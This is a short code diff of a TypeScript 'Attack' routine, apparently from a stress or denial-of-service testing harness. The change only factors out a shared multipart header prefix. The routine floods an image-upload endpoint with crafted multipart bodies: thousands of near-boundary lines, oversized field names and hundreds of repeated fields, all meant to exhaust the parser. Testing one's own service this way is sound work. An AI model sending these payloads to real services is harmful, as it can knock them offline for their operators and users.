@@ -72,8 +72,9 @@ const forms: Attack = (by) =>
   flood(by, 8, (turn) => {
     const boundary = 'x'.repeat(70);
     const almost = `\r\n--${boundary.slice(1)}`.repeat(20_000);
-    const field = `--${boundary}\r\nContent-Disposition: form-data; name="${'n'.repeat(90)}"\r\n\r\n${'v'.repeat(4000)}\r\n`;
-    const file = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n${almost}`;
+    const part = `--${boundary}\r\nContent-Disposition: form-data;`;
+    const field = `${part} name="${'n'.repeat(90)}"\r\n\r\n${'v'.repeat(4000)}\r\n`;
+    const file = `${part} name="file"; filename="a.jpg"\r\n\r\n${almost}`;
     const body = turn % 2 ? field.repeat(200) : `${file}\r\n--${boundary}--\r\n`;
     const headers = { 'content-type': `multipart/form-data; boundary=${boundary}` };
     return send(by, '/api/v1/img/upload', { method: 'POST', body: new Blob([body]), headers });
